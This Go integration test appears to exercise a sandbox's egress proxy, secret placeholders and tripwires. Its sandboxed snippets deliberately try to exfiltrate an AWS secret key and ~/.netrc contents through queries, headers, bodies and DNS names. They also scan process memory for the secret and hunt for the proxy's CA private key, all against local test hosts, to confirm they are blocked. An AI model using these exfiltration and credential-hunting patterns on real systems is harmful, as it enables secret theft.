package local_test

// Secrets, request rules and tripwires through the real stack: a gVisor
// sandbox on its bridge, the firewall, the egress proxy intercepting TLS,
// and HTTPS servers in a network namespace this test builds, with a CA
// the test makes for them.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/airlock-mcp/airlock/backend/local/boot"
	"github.com/airlock-mcp/airlock/config"
	"github.com/airlock-mcp/airlock/metrics"
	"github.com/airlock-mcp/airlock/runtime"
	"github.com/airlock-mcp/airlock/runtime/netns"
	"github.com/airlock-mcp/airlock/runtime/network/egress"
)

// echoUpstream serves HTTPS (HTTP/1.1 and HTTP/2) on inetIP:8443 and plain
// HTTP on inetIP:8080 inside the test internet, answering with what it
// received, and keeps every request for the test to read.
type echoUpstream struct {
	mu   sync.Mutex
	seen []string
}

func (u *echoUpstream) all() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return strings.Join(u.seen, "\n")
}

func startEchoUpstream(t *testing.T, in inet) *echoUpstream {
	t.Helper()
	u := &echoUpstream{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rec, _ := json.Marshal(map[string]any{"proto": r.Proto, "method": r.Method, "host": r.Host, "uri": r.RequestURI, "headers": r.Header, "body": string(body)})
		u.mu.Lock()
		u.seen = append(u.seen, string(rec))
		u.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(rec)
	})
	cert, err := tls.LoadX509KeyPair(in.cert, in.key)
	if err != nil {
		t.Fatal(err)
	}
	for _, port := range []string{"8443", "8080"} {
		var ln net.Listener
		// The socket is made inside the test internet's namespace; the
		// server goroutines then serve it from here.
		err := netns.Do("/var/run/netns/"+in.ns, func() (err error) {
			ln, err = net.Listen("tcp", net.JoinHostPort(inetIP, port))
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		srv := &httptest.Server{Listener: ln, Config: &http.Server{Handler: h}}
		if port == "8443" {
			srv.EnableHTTP2 = true
			srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
			srv.StartTLS()
		} else {
			srv.Start()
		}
		t.Cleanup(srv.Close)
	}
	return u
}

type syncLog struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *syncLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *syncLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// interceptStack is a stack whose operator configured a secret for
// allowed.test, read-only rules for rules.test, and tripwires.
type interceptStack struct {
	s     *boot.Stack
	up    *echoUpstream
	logs  *syncLog
	value string // the secret's value
}

func newInterceptStack(t *testing.T) *interceptStack {
	t.Helper()
	need(t)
	in := startInternet(t, "allowed.test", "other.test", "rules.test")
	up := startEchoUpstream(t, in)
	value := "sv" + hex.EncodeToString([]byte(runtime.NewRunID()))[:30]
	t.Setenv("AIRLOCK_TEST_API_TOKEN", value)
	cfg := netConfig(in.ca)
	cfg.Network.AllowDomains = append(cfg.Network.AllowDomains, "other.test")
	cfg.Network.AllowPorts = []int{80, 443, 8080, 8443}
	cfg.Network.Hosts = append(cfg.Network.Hosts, config.HostEntry{Name: "rules.test", Addrs: []string{inetIP}})
	cfg.Network.Allow = []egress.AllowRule{{Domain: "rules.test", Methods: []string{"GET", "HEAD"}, Paths: []string{"/ok/", "/simple/", "/packages/"}}}
	cfg.Network.Tripwires = true
	cfg.Secrets = []egress.SecretSpec{{Name: "API_TOKEN", FromEnv: "AIRLOCK_TEST_API_TOKEN", Hosts: []string{"allowed.test"}}}
	logs := &syncLog{}
	s, err := boot.Up(context.Background(), cfg, boot.NeedManager, slog.New(slog.NewJSONHandler(io.MultiWriter(logs, os.Stderr), &slog.HandlerOptions{Level: slog.LevelWarn})))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		s.Close(context.Background())
		removeTestNetwork(cfg, s.Instance.ID)
	})
	if s.Secrets == nil || !s.Tripwires {
		t.Fatal("the stack lost its secrets or tripwires")
	}
	return &interceptStack{s: s, up: up, logs: logs, value: value}
}

// run runs code with the named secrets and the stack's tripwires, as the
// tool handlers would.
func (is *interceptStack) run(t *testing.T, lang runtime.Language, code string, secrets ...string) (runtime.Result, *egress.Credentials) {
	t.Helper()
	creds, err := is.s.Secrets.Bind(secrets)
	if err != nil {
		t.Fatal(err)
	}
	creds.AddTripwires()
	pol := is.s.Egress.WithCredentials(creds)
	res, err := is.s.Manager.Run(context.Background(), runtime.Request{Language: lang, Code: code, Limits: limits(), Egress: &pol, Env: creds.Env, HomeFiles: creds.Files})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	return res, creds
}

// pyFetch defines fetch(url, data=None, headers={}) -> (status, body) in
// a sandbox, through the proxy the environment names.
const pyFetch = `
import os, json, urllib.request, urllib.error
def fetch(url, data=None, headers={}, method=None):
    req = urllib.request.Request(url, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except Exception as e:
        return -1, repr(e)
`

func TestEgressInterception(t *testing.T) {
	is := newInterceptStack(t)
	sum := sha256.Sum256([]byte(is.value))

	t.Run("secret", func(t *testing.T) {
		code := pyFetch + fmt.Sprintf(`
import hashlib
tok = os.environ["API_TOKEN"]
out = {"env": tok}
out["own"] = fetch("https://allowed.test:8443/echo?key=" + tok, data=("body " + tok).encode(), headers={"Authorization": "Bearer " + tok})
out["other"] = fetch("https://other.test:8443/echo", headers={"Authorization": "Bearer " + tok})
out["environ"] = open("/proc/self/environ", "rb").read().decode(errors="replace")

def scan(prefix, digest, n):
    found = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            addr, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in addr.split("-"))
            if "r" not in perms or hi - lo > 256 << 20:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except Exception:
                continue
            i = data.find(prefix)
            while i >= 0:
                if hashlib.sha256(data[i:i+n]).hexdigest() == digest:
                    found += 1
                i = data.find(prefix, i + 1)
    return found
# The value by its hash (the sandbox must not be told it); the placeholder
# as the control that proves the scan sees this process's memory.
out["mem_value"] = scan(%q.encode(), %q, %d)
out["mem_placeholder"] = scan(tok[:8].encode(), hashlib.sha256(tok.encode()).hexdigest(), len(tok))
print(json.dumps(out))
`, is.value[:6], hex.EncodeToString(sum[:]), len(is.value))
		res, creds := is.run(t, runtime.Python, code, "API_TOKEN")
		ph := creds.Env["API_TOKEN"]
		var out struct {
			Env            string `json:"env"`
			Own, Other     []any
			Environ        string `json:"environ"`
			MemValue       int    `json:"mem_value"`
			MemPlaceholder int    `json:"mem_placeholder"`
		}
		if err := json.Unmarshal([]byte(res.Stdout), &out); err != nil {
			t.Fatalf("output %q (stderr %q): %v", res.Stdout, res.Stderr, err)
		}
		if out.Env != ph || strings.Contains(out.Environ, is.value) {
			t.Errorf("the sandbox's API_TOKEN is %q, want the placeholder %q (environ %q)", out.Env, ph, out.Environ)
		}
		if out.MemPlaceholder == 0 {
			t.Errorf("the memory scan did not find the placeholder it holds: the scan is broken")
		}
		if out.MemValue != 0 {
			t.Errorf("the secret's value is in the sandbox's memory %d times", out.MemValue)
		}
		if len(out.Own) != 2 || out.Own[0] != float64(200) {
			t.Fatalf("request to the secret's host: %v", out.Own)
		}
		// The upstream got the value in the header and the query (not the
		// body: in_body is off) ...
		seen := is.up.all()
		for _, want := range []string{`"Bearer ` + is.value + `"`, "key=" + is.value, `"body ` + ph + `"`} {
			if !strings.Contains(seen, want) {
				t.Errorf("upstream saw %s; want %q in it", seen, want)
			}
		}
		// ... and its echo reached the sandbox with the value redacted.
		echo := out.Own[1].(string)
		if strings.Contains(echo, is.value) || !strings.Contains(echo, "Bearer "+ph) {
			t.Errorf("echo as the sandbox read it: %s", echo)
		}
		if out.Other[0] != float64(403) || strings.Contains(seen, `"host":"other.test`) {
			t.Errorf("the placeholder to other.test: %v (upstream saw %s)", out.Other, seen)
		}
		if !hasDenial(res, "other.test", egress.ReasonSecretWrongHost) {
			t.Errorf("denials %+v lack secret_to_wrong_host", res.EgressDenied)
		}
		rec := httptest.NewRecorder()
		metrics.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
		if !strings.Contains(rec.Body.String(), `kind="secret_to_wrong_host"`) {
			t.Error("metrics lack the secret_to_wrong_host escape count")
		}
		for name, text := range map[string]string{"stdout": res.Stdout, "stderr": res.Stderr, "logs": is.logs.String(), "metrics": rec.Body.String(), "denials": fmt.Sprint(res.EgressDenied)} {
			if strings.Contains(text, is.value) {
				t.Errorf("the secret's value is in the %s", name)
			}
		}
	})

	t.Run("rules", func(t *testing.T) {
		code := `
set -u
for v in --http1.1 --http2; do
  echo "get $v $(curl -s -o /dev/null -w '%{http_code} %{http_version}' $v https://rules.test:8443/ok/x)"
  echo "post $v $(curl -s -o /dev/null -w '%{http_code}' $v -X POST -d x https://rules.test:8443/ok/x)"
  echo "path $v $(curl -s -o /dev/null -w '%{http_code}' $v https://rules.test:8443/admin)"
done
echo "plain-get $(curl -s -o /dev/null -w '%{http_code}' http://rules.test:8080/ok/x)"
echo "plain-post $(curl -s -o /dev/null -w '%{http_code}' -X POST -d x http://rules.test:8080/ok/x)"
echo "body: $(curl -s -X DELETE https://rules.test:8443/ok/x)"
cd /tmp && pip download --no-deps --index-url https://rules.test/simple tinypkg -d /tmp/dl -q 2>&1 | tail -2
ls /tmp/dl
`
		res, _ := is.run(t, runtime.Shell, code)
		for _, want := range []string{
			"get --http1.1 200 1.1", "post --http1.1 403", "path --http1.1 403",
			"get --http2 200 2", "post --http2 403", "path --http2 403",
			"plain-get 200", "plain-post 403",
			"body: egress denied: DELETE /ok/x on rules.test is outside network.allow rule {rules.test methods GET,HEAD paths /ok/,/simple/,/packages/}",
			"tinypkg-1.0-py3-none-any.whl",
		} {
			if !strings.Contains(res.Stdout, want) {
				t.Errorf("output lacks %q:\n%s\nstderr: %s", want, res.Stdout, res.Stderr)
			}
		}
		found := false
		for _, d := range res.EgressDenied {
			if d.Host == "rules.test" && d.Reason == egress.ReasonRule && d.Method == "POST" && d.Path == "/ok/x" {
				found = true
			}
		}
		if !found {
			t.Errorf("denials %+v lack the POST with its method and path", res.EgressDenied)
		}
	})

	t.Run("tripwire", func(t *testing.T) {
		for _, tc := range []struct{ name, send string }{
			{"query", `fetch("https://allowed.test:8443/q?k=" + key)`},
			{"header", `fetch("https://allowed.test:8443/h", headers={"X-Debug": key})`},
			{"POST body", `fetch("https://allowed.test:8443/p", data=("x" * 50000 + key).encode())`},
			{"host name", `fetch("https://" + key.lower() + ".wild.test/")`},
			{"netrc over plain HTTP", `fetch("http://allowed.test:8080/n?p=" + open(os.path.expanduser("~/.netrc")).read().split()[-1])`},
		} {
			t.Run(tc.name, func(t *testing.T) {
				before := len(is.up.all())
				code := pyFetch + `
import time
key = os.environ["AWS_SECRET_ACCESS_KEY"]
print("clean", fetch("https://allowed.test:8443/fine")[0], flush=True)
` + tc.send + `
time.sleep(2)
print("still running", flush=True)
time.sleep(30)
`
				res, creds := is.run(t, runtime.Python, code)
				if res.Reason != runtime.ReasonTripwire || !strings.Contains(res.Stdout, "clean 200") || strings.Contains(res.Stdout, "still running") {
					t.Fatalf("reason %q stdout %q stderr %q, want the run killed by the tripwire after a clean request", res.Reason, res.Stdout, res.Stderr)
				}
				if !slicesContainsTrip(res.EgressDenied) {
					t.Errorf("denials %+v name no tripwire destination", res.EgressDenied)
				}
				after := is.up.all()[before:]
				for _, v := range creds.Tripwires() {
					if strings.Contains(strings.ToLower(after), strings.ToLower(v)) {
						t.Errorf("a tripwire value reached the upstream: %s", after)
					}
				}
			})
		}
	})

	// Every HTTPS of a run with tripwires is intercepted: the refusals
	// that come before any connection stand as they did.
	t.Run("refusals unchanged under interception", func(t *testing.T) {
		code := `
for u in https://` + inetIP + `:8443/ https://loop.wild.test/ https://meta.wild.test/ https://nowhere.test/ http://priv.wild.test/; do
  echo "$u $(curl -s -o /dev/null -w '%{http_code}' --max-time 10 $u)"
done
`
		res, _ := is.run(t, runtime.Shell, code)
		for _, d := range []struct{ host, reason string }{
			{inetIP, egress.ReasonIPLiteral}, {"loop.wild.test", egress.ReasonPrivate}, {"meta.wild.test", egress.ReasonPrivate},
			{"nowhere.test", egress.ReasonNotAllowed}, {"priv.wild.test", egress.ReasonPrivate},
		} {
			if !hasDenial(res, d.host, d.reason) {
				t.Errorf("%s not refused for %q: denials %+v\n%s", d.host, d.reason, res.EgressDenied, res.Stdout)
			}
		}
		if strings.Contains(res.Stdout, " 200") {
			t.Errorf("a refused destination answered:\n%s", res.Stdout)
		}
	})

	t.Run("CA key stays out", func(t *testing.T) {
		code := `
grep -rl "PRIVATE"" KEY" /.airlock /etc/ssl /workspace /tmp 2>/dev/null | head -3
find / -xdev -name 'egress-ca*' 2>/dev/null | head -3
echo "ca-in-bundle $(grep -c 'BEGIN CERTIFICATE' /.airlock/ca.pem)"
echo "proxy: $(curl -s --noproxy '*' "$(echo $HTTP_PROXY | sed 's,/$,,')/egress-ca-key.pem" | head -c 200)"
`
		res, _ := is.run(t, runtime.Shell, code)
		if strings.Contains(res.Stdout, "PRIVATE KEY") || strings.Contains(res.Stdout, "egress-ca-key") || strings.Contains(res.Stdout, "/.airlock") {
			t.Errorf("the sandbox found key material:\n%s", res.Stdout)
		}
		if !strings.Contains(res.Stdout, "ca-in-bundle") || !strings.Contains(res.Stdout, "proxy: egress: this is an egress proxy") {
			t.Errorf("output:\n%s\nstderr: %s", res.Stdout, res.Stderr)
		}
		ca, err := os.ReadFile(filepath.Join(testConfig().StateDir, "egress-ca-key.pem"))
		if err == nil && strings.Contains(res.Stdout, string(ca)) {
			t.Error("the key reached the sandbox")
		}
	})
}

func slicesContainsTrip(ds []egress.Denial) bool {
	for _, d := range ds {
		if d.Reason == egress.ReasonTripwire && d.Host != "" {
			return true
		}
	}
	return false
}
